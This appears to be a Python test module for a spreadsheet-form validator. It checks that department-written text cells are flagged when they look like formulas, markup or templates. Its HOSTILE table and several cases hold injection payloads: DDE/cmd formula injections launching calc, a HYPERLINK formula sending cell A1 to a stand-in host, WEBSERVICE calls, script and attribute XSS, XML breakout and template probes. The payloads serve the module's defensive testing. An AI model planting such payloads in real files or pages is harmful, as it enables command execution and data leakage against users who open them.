"""Texts: what departments write, and what others would like a spreadsheet, a browser or a template to run."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.crafted.city import RULES
from tests.crafted.edits import clear
from tests.crafted.edits import error
from tests.crafted.edits import every
from tests.crafted.edits import formula
from tests.crafted.edits import merge
from tests.crafted.edits import number
from tests.crafted.edits import put
from tests.crafted.edits import raw
from tests.crafted.edits import sign
from tests.crafted.package import Typed
from tests.crafted.records import EMPTY
from tests.crafted.records import TEXTS
from tests.crafted.records import Case

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.crafted.records import Form

HOSTILE = {
    "a link formula": '=HYPERLINK("http://x.invalid/?"&A1,"详情")',
    "a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a plus": "+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "a command": "=cmd|'/C calc'!A0",
    "an equals sign in full width": "＝1+1",
    "an at sign in full width": "＠SUM(A1)",
    "a web service": '=WEBSERVICE("http://x.invalid/")',
    "an array formula": "{=SUM(A1:A9)}",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a line break": "\n=1+1",
    "a formula behind a quote": '"=1+1',
    "a link": "http://x.invalid/报表",
    "a file link": "file:///C:/Windows/x.xlsx",
    "an inner link": "internal:Sheet1!A1",
    "a mail link": "mailto:x@x.invalid",
    "a script": "<script>alert(1)</script>",
    "an attribute": '" onmouseover="alert(1)',
    "an image": "<img src=http://x.invalid/x.png>",
    "an entity": "&lt;b&gt; &amp; &#x41; A&B",
    "the end of a section": "]]></w:t><w:br/>",
    "a field": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    "a template": "{{ 7*7 }} {% for x in y %} {# 注 #} ${7*7}",
    "a format string": "%s %d {0} {place.file}",
    "an escape of excel": "_x000D__x0041_",
    "odd characters": "\U00020bb7 \u263a \u202e \u2028 \ufeff 零\u200b宽",
}
"""By what it is: text that must stay text in every output."""


_AS_FORMULA = frozenset(name for name, text in HOSTILE.items() if text.lstrip().startswith("="))
"""What a spreadsheet would run as it stands is not taken for prose at all."""
_UNKNOWN, _UNREAD = "check.placeholder-unknown 推进情况!D4", "claims.unread 推进情况!D4"
_TOLD = {
    "an array formula": (_UNKNOWN,),
    "a script": (_UNREAD,),
    "an attribute": (_UNREAD,),
    "a template": ("check.brace-stray 推进情况!D4", *(_UNKNOWN,) * 4),
    "a format string": (_UNKNOWN, _UNKNOWN, _UNREAD),
} | dict.fromkeys(_AS_FORMULA, ("forms.text-unreadable 推进情况!D4",))
"""What is said of such a text: braces that name no indicator, figures that nobody can place."""


def _written(name: str, text: str) -> Case:
    return Case(f"text that looks like {name}", put("D4", text, TEXTS), _TOLD.get(name, ()))


def _explained(name: str, text: str) -> Case:
    told = ("forms.text-unreadable L4",) if name in _AS_FORMULA else ()
    return Case(f"explanation that looks like {name}", put("L4", text), told)


def _placeholder(template: str) -> Callable[[Form], object]:
    """Write a text about the department's own indicators: `{own}` is what their ids begin with."""

    def change(form: Form) -> None:
        form.put(TEXTS, "D4", Typed(template.replace("own", form.department.indicator(0)[:-2]), "inlineStr"))

    return change


_OTHERS = (
    Case("text missing", clear("D4", sheet=TEXTS), ("forms.text-missing 推进情况!D4",)),
    Case("text of blanks", put("D4", " \n ", TEXTS), ("forms.text-missing 推进情况!D4",)),
    Case("text of a dash", put("D5", "—", TEXTS), ("forms.text-missing 推进情况!D5",), {RULES: EMPTY}),
    Case("text of nothing to say", put("D4", "无", TEXTS), ("forms.text-missing 推进情况!D4",)),
    Case("text too long", put("D4", "推进工作" * 130, TEXTS), ("forms.text-too-long 推进情况!D4",)),
    Case("problems too long", put("E4", "推进工作" * 130, TEXTS), ("forms.text-too-long 推进情况!E4",)),
    Case("text as an error", put("D4", error("#NAME?"), TEXTS), ("forms.text-unreadable 推进情况!D4",)),
    Case("text as a formula", put("D4", formula('"按计划推进"', "按计划推进", "str"), TEXTS)),
    Case(
        "text as a formula without result",
        put("D4", formula("A1", None), TEXTS),
        ("forms.text-unreadable 推进情况!D4",),
    ),
    Case("text as a number", put("D4", number("7"), TEXTS), (_UNREAD,)),
    Case("text under a merge", merge("C4:D4", sheet=TEXTS), ("forms.text-under-merge 推进情况!D4",)),
    Case("text with line breaks", put("D4", "一是学校建设。\n二是有效投资。\n", TEXTS)),
    Case(
        "text with rich runs",
        raw("D4", "<is><r><t>按计划</t></r><r><rPr><b/></rPr><t>推进。</t></r></is>", TEXTS, t="inlineStr"),
    ),
    Case(
        "text with struck words",
        raw(
            "D4",
            "<is><r><t>已建成学校</t></r><r><rPr><strike/></rPr><t>9</t></r><r><t>7所。</t></r></is>",
            TEXTS,
            t="inlineStr",
        ),
        ("forms.text-struck 推进情况!D4",),
    ),
    Case(
        "text with the sign of a footnote behind a figure",
        raw(
            "D4",
            '<is><r><t>按计划推进，占地300</t></r><r><rPr><vertAlign val="superscript"/></rPr><t>1</t></r>'
            '<r><t>km</t></r><r><rPr><vertAlign val="superscript"/></rPr><t>2</t></r></is>',
            TEXTS,
            t="inlineStr",
        ),
        ("forms.text-shifted 推进情况!D4", _UNREAD, _UNREAD),
    ),
    Case("figure by its placeholder", _placeholder("已新建学校{own-1}。")),
    Case("rate by its placeholder", _placeholder("已新建学校{own-1}，完成年度目标的{own-1.完成率}。")),
    Case(
        "placeholder of no indicator", _placeholder("已新建学校{own-99}。"), ("check.placeholder-unknown 推进情况!D4",)
    ),
    Case(
        "placeholder of an empty figure",
        every(_placeholder("已新建学校{own-1}。"), clear("H4")),
        ("check.placeholder-empty 推进情况!D4", "forms.figure-missing H4"),
        {1: EMPTY},
    ),
    Case(
        "placeholder with more than an id",
        _placeholder("已新建{own-1.__class__}。"),
        ("check.placeholder-unknown 推进情况!D4",),
    ),
    Case("figure told otherwise", put("D4", "已新建学校8所。", TEXTS), ()),
    Case(
        "signed by a formula",
        sign("填报人", '=HYPERLINK("http://x.invalid","张")'),
        ("forms.text-unreadable 填报说明!C6",),
    ),
    Case("telephone by a formula", sign("联系电话", "=cmd|'/C calc'!A0"), ("forms.text-unreadable 填报说明!C9",)),
)

CASES: tuple[Case, ...] = (
    *(_written(*item) for item in HOSTILE.items()),
    *(_explained(*item) for item in HOSTILE.items()),
    *_OTHERS,
)
